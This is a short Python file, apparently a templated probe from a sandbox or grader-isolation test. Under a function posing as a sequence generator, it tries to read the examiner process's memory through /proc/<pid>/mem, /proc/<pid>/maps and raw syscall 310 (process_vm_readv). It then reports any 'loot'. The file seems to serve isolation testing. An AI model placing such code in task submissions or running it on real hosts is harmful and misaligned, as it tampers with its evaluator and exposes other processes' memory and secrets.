"""Attack: reads the memory of the examiner."""

import os

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def syscall(number, *arguments):
    """A system call of x86-64 by its number. OSError where it fails."""
    import ctypes
    import platform

    if platform.machine() != "x86_64":
        raise OSError("other numbers here")
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), "syscall")
    return result


def attack():
    pids = {os.getppid(), int("@PID@"), 1}
    return tries(
        *(lambda pid=pid: open(f"/proc/{pid}/mem", "rb").read(1) for pid in pids),
        *(lambda pid=pid: open(f"/proc/{pid}/maps").read() for pid in pids),
        lambda: syscall(310, int("@PID@"), 0, 0, 0, 0, 0),
    )


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
